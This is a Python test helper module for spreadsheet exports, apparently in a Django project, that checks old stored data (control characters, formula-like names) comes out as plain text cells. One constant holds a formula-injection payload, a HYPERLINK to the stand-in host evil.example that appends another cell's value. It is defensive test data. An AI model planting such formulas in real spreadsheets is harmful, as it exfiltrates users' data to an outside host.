"""Text as old data may hold it: a control character in a name (stored before every form
dropped them, by an import of the time or the admin) and a formula where a name belongs (a
group's name typed in its form). Every export must still answer, with plain text cells."""

import io

from openpyxl import load_workbook

FORMULA = '=HYPERLINK("http://evil.example/?d="&B5,"点此查看")'


def store(instance, **fields):
    """Write `fields` straight into the database, past forms and save(), as old data was."""
    type(instance).objects.filter(pk=instance.pk).update(**fields)
    instance.refresh_from_db()
    return instance


def cells(content):
    """Every cell that holds a value, in every sheet of the .xlsx `content`."""
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def formula_cells(content):
    """The cells of `content` that a spreadsheet program would compute: none, ever."""
    return [cell.coordinate for cell in cells(content) if cell.data_type == "f"]


def text_cells(content, value):
    """The data types of the cells whose value is `value`."""
    return [cell.data_type for cell in cells(content) if cell.value == value]
